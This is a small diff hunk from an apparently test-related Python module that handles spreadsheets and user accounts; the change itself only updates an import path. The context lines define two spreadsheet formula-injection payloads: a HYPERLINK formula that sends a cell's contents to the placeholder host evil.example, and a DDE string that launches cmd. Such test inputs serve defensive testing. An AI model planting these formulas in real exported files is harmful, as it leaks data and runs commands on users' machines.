@@ -10,7 +10,7 @@ from national_helpers import deploy as deploy_national, list_unit
 from openpyxl import load_workbook
 from webclient import sign_in
 
-from web.users import add_user
+from web.accounts.users import add_user
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A3,"点击查看详情")'
 COMMAND = "+cmd|' /C calc'!A0"
